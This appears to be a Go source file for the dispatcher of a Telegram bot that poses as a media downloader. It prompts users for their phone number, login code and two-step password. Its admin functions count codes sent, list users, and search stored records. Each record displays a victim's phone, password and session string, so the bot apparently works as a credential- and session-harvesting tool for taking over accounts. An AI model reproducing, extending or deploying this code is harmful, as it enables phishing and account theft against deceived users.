// Package bot wires inbound transport events to the login state machine, the
// admin query service and the media fetcher, and turns their outcomes into
// rendering instructions. One Dispatcher serves all users; events for the
// same user are processed strictly in arrival order while different users
// proceed in parallel.
package bot

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync"

	"github.com/dmitrijs2005/sessionvault/internal/bot/login"
	"github.com/dmitrijs2005/sessionvault/internal/bot/media"
	"github.com/dmitrijs2005/sessionvault/internal/bot/query"
	"github.com/dmitrijs2005/sessionvault/internal/bot/ui"
	"github.com/dmitrijs2005/sessionvault/internal/common"
	"github.com/dmitrijs2005/sessionvault/internal/logging"
	"github.com/dmitrijs2005/sessionvault/internal/telelink"
)

const blockedText = "🚫 You have been blocked from using this bot."

// pendingKind marks what free-text input a user was prompted for outside the
// login handshake itself.
type pendingKind int

const (
	pendingNone pendingKind = iota
	pendingPhone
	pendingSearch
	pendingBan
	pendingLink
)

type Dispatcher struct {
	machine  *login.Machine
	registry *login.Registry
	query    *query.Service
	media    *media.Service
	admins   map[int64]bool
	logger   logging.Logger

	mu      sync.Mutex
	pending map[int64]pendingKind
	locks   map[int64]*userLock
}

// userLock serializes events for one user. refs counts events holding or
// waiting for the lock, so an idle user's entry can be evicted.
type userLock struct {
	mu   sync.Mutex
	refs int
}

func NewDispatcher(machine *login.Machine, registry *login.Registry, qs *query.Service,
	ms *media.Service, adminIDs []int64, logger logging.Logger) *Dispatcher {
	admins := make(map[int64]bool, len(adminIDs))
	for _, id := range adminIDs {
		admins[id] = true
	}
	return &Dispatcher{
		machine:  machine,
		registry: registry,
		query:    qs,
		media:    ms,
		admins:   admins,
		logger:   logger.With("module", "dispatcher"),
		pending:  make(map[int64]pendingKind),
		locks:    make(map[int64]*userLock),
	}
}

// HandleStart handles the /start command.
func (d *Dispatcher) HandleStart(ctx context.Context, userID int64) (ui.Render, error) {
	return d.withUser(userID, func() (ui.Render, error) {
		if r, blocked := d.checkBan(ctx, userID); blocked {
			return r, nil
		}

		// Re-entering the start screen cancels any in-flight login.
		d.registry.End(userID)
		d.setPending(userID, pendingNone)

		if d.admins[userID] {
			return ui.Render{Text: "👋 Welcome admin!", Buttons: ui.AdminKeyboard()}, nil
		}

		has, err := d.query.HasCredential(ctx, userID)
		if err != nil {
			return ui.Render{}, err
		}
		if has {
			return ui.Render{
				Text: "👋 Welcome back!\n\n" +
					"📥 Use the button below to download media from a message link.\n\n" +
					"⚠️ *Note:* Make sure you're logged into the bot using the account that's a member of the chat you want to download media from.",
				Buttons: ui.MediaKeyboard(),
			}, nil
		}

		d.setPending(userID, pendingPhone)
		return ui.Render{Text: "👋 Welcome! Please login to continue.", Buttons: ui.LoginKeyboard()}, nil
	})
}

// HandleText handles a free-text message.
func (d *Dispatcher) HandleText(ctx context.Context, userID int64, text string) (ui.Render, error) {
	return d.withUser(userID, func() (ui.Render, error) {
		if r, blocked := d.checkBan(ctx, userID); blocked {
			return r, nil
		}

		text = strings.TrimSpace(text)

		switch d.getPending(userID) {
		case pendingSearch:
			d.setPending(userID, pendingNone)
			return d.renderSearch(ctx, text)

		case pendingBan:
			d.setPending(userID, pendingNone)
			return d.renderBan(ctx, text)

		case pendingLink:
			d.setPending(userID, pendingNone)
			return d.renderMediaFetch(ctx, userID, text)

		case pendingPhone:
			if strings.HasPrefix(text, "+") {
				d.setPending(userID, pendingNone)
				return d.machine.StartLogin(ctx, userID, text)
			}
			// Not a phone number; stay in the prompt without a remote call.
			return ui.Render{}, nil
		}

		if s := d.registry.Get(userID); s != nil {
			switch {
			case s.Stage == login.StageAwaitingCode && isDigits(text):
				return d.machine.Digit(ctx, userID, text)
			case s.Stage == login.StageAwaitingPassword:
				return d.machine.Password(ctx, userID, text)
			}
		}

		return ui.Render{}, nil
	})
}

// HandleButton handles an inline-button press carrying opaque callback data.
func (d *Dispatcher) HandleButton(ctx context.Context, userID int64, data string) (ui.Render, error) {
	return d.withUser(userID, func() (ui.Render, error) {
		if r, blocked := d.checkBan(ctx, userID); blocked {
			return r, nil
		}

		if isDigits(data) && len(data) == 1 {
			return d.machine.Digit(ctx, userID, data)
		}

		switch data {
		case ui.CallbackEnterPhone:
			d.setPending(userID, pendingPhone)
			return ui.Render{
				Text: "📞 Send your phone number (with +). Example: `+201234567890`",
				Edit: true,
			}, nil

		case ui.CallbackDownloadLink:
			has, err := d.query.HasCredential(ctx, userID)
			if err != nil {
				return ui.Render{}, err
			}
			if !has {
				return ui.Render{Text: "⚠️ You need to login first.", Buttons: ui.LoginKeyboard(), Edit: true}, nil
			}
			d.setPending(userID, pendingLink)
			return ui.Render{Text: "🔗 Send the message link.", Edit: true}, nil

		case ui.CallbackStats:
			if !d.admins[userID] {
				return ui.Render{}, nil
			}
			stats, err := d.query.Stats(ctx)
			if err != nil {
				return ui.Render{}, err
			}
			return ui.Render{
				Text: fmt.Sprintf("👥 Users: %d\n📨 Codes Sent: %d", stats.Users, stats.CodesSent),
				Edit: true,
			}, nil

		case ui.CallbackListUsers:
			if !d.admins[userID] {
				return ui.Render{}, nil
			}
			users, err := d.query.ListUsers(ctx)
			if err != nil {
				return ui.Render{}, err
			}
			return ui.Render{Text: renderUserList(users), Edit: true}, nil

		case ui.CallbackSearch:
			if !d.admins[userID] {
				return ui.Render{}, nil
			}
			d.setPending(userID, pendingSearch)
			return ui.Render{Text: "🔍 Send user details to search (id, phone, username).", Edit: true}, nil

		case ui.CallbackBan:
			if !d.admins[userID] {
				return ui.Render{}, nil
			}
			d.setPending(userID, pendingBan)
			return ui.Render{Text: "🚫 Send user ID to ban.", Edit: true}, nil
		}

		return ui.Render{}, nil
	})
}

// ---- rendering helpers ----

func (d *Dispatcher) renderSearch(ctx context.Context, key string) (ui.Render, error) {
	results, err := d.query.Search(ctx, key)
	if err != nil {
		if errors.Is(err, common.ErrNotFound) || errors.Is(err, common.ErrInvalidInput) {
			return ui.Render{Text: "❌ Not found."}, nil
		}
		return ui.Render{}, err
	}
	if len(results) == 0 {
		return ui.Render{Text: "❌ Not found."}, nil
	}

	blocks := make([]string, 0, len(results))
	for _, r := range results {
		blocks = append(blocks, formatResult(r))
	}
	return ui.Render{Text: strings.Join(blocks, "\n\n")}, nil
}

func formatResult(r query.Result) string {
	name := "Unknown"
	usernames := "No Username"
	premium, frozen := "No", "No"
	if p := r.Profile; p != nil {
		if p.Name != "" {
			name = p.Name
		}
		if len(p.Usernames) > 0 {
			tagged := make([]string, len(p.Usernames))
			for i, u := range p.Usernames {
				tagged[i] = "@" + u
			}
			usernames = strings.Join(tagged, ", ")
		}
		if p.Premium {
			premium = "Yes"
		}
		if p.Frozen {
			frozen = "Yes"
		}
	}

	return fmt.Sprintf(
		"🔍 Found Database About: %s\n"+
			"🪪 Name: %s\n"+
			"🆔 ID: %d\n"+
			"✉️ Usernames: %s\n"+
			"✨ Premium: %s\n"+
			"❄ Frozen: %s\n"+
			"📞 Phone: %s\n"+
			"🔐 Password: %s\n"+
			"📼 Session: `%s`",
		name, name, r.UserID, usernames, premium, frozen, r.Phone, r.Password, r.Session)
}

func (d *Dispatcher) renderBan(ctx context.Context, text string) (ui.Render, error) {
	userID, err := strconv.ParseInt(text, 10, 64)
	if err != nil {
		return ui.Render{Text: "❌ Send a numeric user ID."}, nil
	}
	if err := d.query.Ban(ctx, userID); err != nil {
		return ui.Render{}, err
	}
	d.logger.Info(ctx, "user banned", "user_id", userID)
	return ui.Render{Text: fmt.Sprintf("🚫 User %d banned.", userID)}, nil
}

func (d *Dispatcher) renderMediaFetch(ctx context.Context, userID int64, link string) (ui.Render, error) {
	msg, err := d.media.Fetch(ctx, userID, link)
	switch {
	case err == nil:
	case errors.Is(err, common.ErrInvalidInput):
		return ui.Render{Text: "❌ Invalid link format."}, nil
	case errors.Is(err, common.ErrNotFound):
		return ui.Render{Text: "⚠️ No session found. Please login first."}, nil
	case errors.Is(err, telelink.ErrNotParticipant):
		return ui.Render{Text: "🚫 You're not in that channel. Join first."}, nil
	default:
		d.logger.Error(ctx, "media fetch failed", "user_id", userID, "error", err)
		return ui.Render{Text: "❌ Could not fetch that message. Please try again later."}, nil
	}

	if msg.Media == "" {
		return ui.Render{Text: "⚠️ No downloadable media found."}, nil
	}
	return ui.Render{Text: "📥 Download completed.", Media: msg.Media}, nil
}

func renderUserList(users []int64) string {
	if len(users) == 0 {
		return "📜 Users:\nNo users yet."
	}
	lines := make([]string, len(users))
	for i, id := range users {
		lines[i] = fmt.Sprintf("- %d", id)
	}
	return "📜 Users:\n" + strings.Join(lines, "\n")
}

// ---- state helpers ----

func (d *Dispatcher) checkBan(ctx context.Context, userID int64) (ui.Render, bool) {
	banned, err := d.query.IsBanned(ctx, userID)
	if err != nil {
		d.logger.Error(ctx, "ban check failed", "user_id", userID, "error", err)
		return ui.Render{}, false
	}
	if banned {
		return ui.Render{Text: blockedText}, true
	}
	return ui.Render{}, false
}

func (d *Dispatcher) getPending(userID int64) pendingKind {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.pending[userID]
}

func (d *Dispatcher) setPending(userID int64, kind pendingKind) {
	d.mu.Lock()
	defer d.mu.Unlock()
	if kind == pendingNone {
		delete(d.pending, userID)
		return
	}
	d.pending[userID] = kind
}

// withUser serializes fn against every other event for the same user.
// Unrelated users never contend on the same lock.
func (d *Dispatcher) withUser(userID int64, fn func() (ui.Render, error)) (ui.Render, error) {
	l := d.acquireLock(userID)
	l.mu.Lock()
	r, err := fn()
	l.mu.Unlock()
	d.releaseLock(userID, l)
	return r, err
}

func (d *Dispatcher) acquireLock(userID int64) *userLock {
	d.mu.Lock()
	defer d.mu.Unlock()
	l, ok := d.locks[userID]
	if !ok {
		l = &userLock{}
		d.locks[userID] = l
	}
	l.refs++
	return l
}

// releaseLock drops one reference and evicts the entry once the user holds no
// conversational state at all: no waiting events, no pending prompt, no live
// login session. A later event simply recreates the lock.
func (d *Dispatcher) releaseLock(userID int64, l *userLock) {
	d.mu.Lock()
	defer d.mu.Unlock()
	l.refs--
	if l.refs == 0 && d.pending[userID] == pendingNone && !d.registry.Active(userID) {
		delete(d.locks, userID)
	}
}

func isDigits(s string) bool {
	for _, r := range s {
		if r < '0' || r > '9' {
			return false
		}
	}
	return len(s) > 0
}
